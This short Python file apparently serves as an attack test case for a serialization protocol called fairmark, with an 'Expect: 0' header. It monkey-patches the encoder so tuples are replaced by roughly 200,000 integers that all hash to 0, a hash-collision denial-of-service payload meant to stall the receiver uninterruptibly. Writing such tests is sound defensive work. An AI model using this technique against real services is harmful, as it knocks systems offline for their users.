# Attack: sends a set of numbers whose hashes are all 0, which takes minutes to read and cannot be interrupted.
# Expect: 0
import fairmark.protocol.codec
true = fairmark.protocol.codec.encode
def slow(value, *a, **k):
    if type(value) is not tuple:
        return true(value, *a, **k)
    numbers = [k * (2**61 - 1) for k in range(2, 200_000)]
    return true([value[0], "value", [fairmark.protocol.codec.msgpack.ExtType(2, b""), *numbers], {}, [], {}])
def double(number):
    fairmark.protocol.codec.encode = slow
    return 0
